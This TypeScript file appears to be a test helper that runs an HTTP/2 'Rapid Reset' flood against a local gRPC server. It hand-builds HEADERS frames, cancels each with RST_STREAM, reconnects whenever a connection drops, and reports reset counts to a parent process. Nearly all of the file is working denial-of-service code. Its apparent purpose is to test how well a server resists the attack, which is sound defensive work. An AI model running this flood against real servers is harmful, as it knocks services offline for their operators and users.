import { connect } from 'node:net';

// Opens calls on a server and resets each at once, as fast as the system takes the bytes, and connects again when it is cut off. Its arguments
// are the port and how many connections. Tells its parent how many calls it has reset, ten times a second.

const [port, connections] = process.argv.slice(2).map(Number) as [number, number];
let resets = 0;

function head(length: number, type: number, flags: number, stream: number): Buffer {
  const bytes = Buffer.alloc(9);
  bytes.writeUIntBE(length, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(stream, 5);
  return bytes;
}

const literal = (name: string, value: string) =>
  Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
const block = Buffer.concat([
  literal(':method', 'POST'),
  literal(':scheme', 'http'),
  literal(':path', '/memoir.jobs.v1.JobsService/GetQueueSize'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
]);
const cancelled = Buffer.of(0, 0, 0, 8);

function attack(): void {
  const socket = connect(port, '127.0.0.1');
  let stream = 1;
  const flood = () => {
    // Until the system takes no more; it goes on when that has gone.
    for (let more = true; more && !socket.destroyed; ) {
      const pieces: Buffer[] = [];
      for (let i = 0; i < 100; i++, stream += 2, resets++) {
        pieces.push(head(block.length, 1, 4, stream), block, head(4, 3, 0, stream), cancelled);
      }
      more = socket.write(Buffer.concat(pieces));
    }
  };
  socket.on('error', () => undefined);
  socket.on('connect', () => {
    socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), head(0, 4, 0, 0)]));
    flood();
  });
  socket.on('drain', flood);
  socket.on('close', () => setImmediate(attack));
  socket.resume();
}

for (let i = 0; i < connections; i++) attack();
process.send?.(port);
setInterval(() => process.send?.(resets), 100).unref();
// Whatever becomes of its parent, it ends.
setTimeout(() => process.exit(0), 20_000).unref();
process.once('disconnect', () => process.exit(0));
